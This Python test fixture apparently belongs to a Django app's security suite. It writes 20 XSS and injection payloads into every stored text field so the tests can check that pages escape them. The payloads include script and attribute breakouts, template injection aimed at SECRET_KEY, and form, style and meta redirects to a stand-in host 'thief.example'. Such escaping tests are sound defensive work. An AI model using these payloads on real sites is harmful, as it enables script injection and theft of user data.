"""A world whose every stored text was written by an attacker."""

from itertools import cycle

from django.utils import timezone

from accounts import log, views  # noqa: F401  (views registers what the history can say)
from accounts.models import Job, Organization, Role
from compliance.models import ConsentEntry, DoNotCallEntry
from contacts.models import ContactImport, Tag
from dialer.models import Call, CallEvent, Campaign
from telephony.models import CarrierAccount
from tests.security.worlds import World
from voiceagents.models import Agent, ModelEndpoint, PromptTemplate, Turn

# Each breaks out of another place (text, attribute, script, JSON, address, comment, style), in at most 80 characters.
SCRIPTS = [
    "<script>window.ran=1</script>",
    '"><img src=x onerror=window.ran=2>',
    "'><svg/onload=window.ran=3>",
    "</script><script>window.ran=4</script>",
    "</textarea></title><script>window.ran=5</script>",
    "javascript:window.ran=6",
    '" autofocus onfocus=window.ran=7 x="',
    "' onmouseover='window.ran=8",
    "--><script>window.ran=9</script>",
    "{{constructor.constructor('window.ran=10')()}}",
    "${window.ran=11}`;window.ran=11//",
    '\\";window.ran=12//\u2028window.ran=12',
    "<iframe srcdoc='<script>parent.ran=13</script>'>",
    "<a href=javascript:window.ran=14 hx-get=/ hx-trigger=load>x</a>",
    "<div hx-on:load=window.ran=15 hx-get=/healthz hx-trigger=load>",
    "<base href=//thief.example/><form action=//thief.example/>",
    "<style>@import'//thief.example/'</style>",
    "<meta http-equiv=refresh content='0;//thief.example/'>",
    "{% load static %}{{ settings.SECRET_KEY }}{% debug %}",
    "\u202egnp.txt\u2066<b onclick=window.ran=20>",
]


def poison(world: World) -> None:
    """Write the scripts into every text of the world that a page may show."""
    texts = cycle(SCRIPTS)

    def fill(model: type, *names: str, **where: object) -> None:
        for row in model._base_manager.filter(**where):
            values = {name: next(texts) for name in names}
            model._base_manager.filter(pk=row.pk).update(**values)

    here = world.location
    things = world.things
    fill(type(here), "name", pk=here.pk)
    fill(Organization, "name", pk=here.organization_id)
    for contact in (things["contact"],):
        contact.fields = {script: script for script in SCRIPTS} | {"items": "x", "keys": SCRIPTS[0]}
        contact.notes = "\n".join(SCRIPTS)
        contact.save()
        fill(type(contact), "first_name", "last_name", "email", pk=contact.pk)
    for script in SCRIPTS:
        tag, _ = Tag.objects.get_or_create(location=here, name=script)
        things["contact"].tags.add(tag)
    fill(
        Agent,
        "name",
        "business_name",
        "goals",
        "business_details",
        "personality",
        "greeting",
        "voice",
        location=here,
    )
    Agent.objects.filter(location=here).update(questions=[{"field": s[:40], "ask": s} for s in SCRIPTS])
    fill(PromptTemplate, "name", "body", location=here)
    fill(ModelEndpoint, "name", "base_url", "model", location=here)
    fill(Campaign, "name", location=here)
    fill(CarrierAccount, "name", "halt_reason", organization=here.organization)
    CarrierAccount.objects.filter(organization=here.organization).update(halted_at=timezone.now())
    fill(type(things["number"]), "name", "brand_name", location=here)
    fill(Call, "failure_detail", "purpose", "context", "summary", location=here)
    Call.objects.filter(location=here).update(
        state="failed", disposition="failed", reasons=SCRIPTS, started_at=timezone.now(), ended_at=timezone.now(),
        answered_by=SCRIPTS[0][:24], failure_code=SCRIPTS[0][:40],
    )  # fmt: skip
    call = things["call"]
    for number, script in enumerate(SCRIPTS, 10):
        Turn.objects.create(
            conversation=call.conversation, position=number, speaker=("contact", "agent")[number % 2],
            text=script, at=timezone.now(),
        )  # fmt: skip
    CallEvent.objects.filter(call=call).update(cause=SCRIPTS[1])
    fill(Job, "title", "error", location=here)
    fill(ContactImport, "file_name", location=here)
    for loaded in ContactImport.objects.filter(location=here):
        loaded.sheet = {
            **loaded.sheet,
            "headers": SCRIPTS[:2],
            "samples": [[1, SCRIPTS[2:4]], [2, SCRIPTS[4:6]]],
        }
        loaded.counts = {**loaded.counts, "reasons": dict.fromkeys(SCRIPTS, 1)}
        loaded.save()
    DoNotCallEntry.objects.filter(organization=here.organization).update(reason="\n".join(SCRIPTS))
    for script in SCRIPTS:
        ConsentEntry.objects.create(
            organization=here.organization, location=here, contact=things["contact"], phone=things["contact"].phone,
            kind="granted", source="form", evidence=script, text=script, url=script, user_agent=script,
            captured_at=timezone.now(),
        )  # fmt: skip
        log.record(here, "location.changed", actor=world.people[Role.OWNER].user, fields=script)
    owner = world.people[Role.OWNER].user
    owner.first_name, owner.last_name = SCRIPTS[1], SCRIPTS[0]
    owner.save()
